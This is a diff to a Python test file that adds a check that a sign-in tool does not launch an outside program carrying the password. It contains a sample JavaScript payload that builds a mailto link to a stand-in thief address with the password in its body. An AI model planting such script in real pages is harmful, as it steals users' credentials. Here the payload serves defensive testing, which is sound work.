@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import asyncio
+import os
+import sys
 import threading
 from collections.abc import Callable, Iterator
 from contextlib import suppress
@@ -167,3 +169,22 @@ def test_no_address_of_the_site_itself_holds_the_password(
     odd_site: OddSite, thief: Collector, session_to: Make
 ) -> None:
     own_addresses(OWN_ADDRESSES, odd_site, thief, session_to)
+
+
+@pytest.mark.long(item=39)
+@pytest.mark.skipif(sys.platform != "linux", reason="another system starts programs in another way")
+def test_no_other_program_is_started_with_the_password(
+    odd_site: OddSite, thief: Collector, session_to: Make, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    started = tmp_path / "started"
+    opener = tmp_path / "xdg-open"
+    opener.write_text(f'#!/bin/sh\necho "$@" >> {started}\n')
+    opener.chmod(0o755)
+    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
+    mail = "const e = document.createElement('a'); e.href = 'mailto:a@thief.example?body=' + password;"
+    prepare(odd_site, [WayOut("mail", f"{mail} add(e); e.click();")], thief, answer=form())
+    without_guard(odd_site.url, started.exists)
+    assert SECRET in started.read_text()
+    started.unlink()
+    assert sign_in(session_to(odd_site.url)) is not None
+    assert not started.exists()
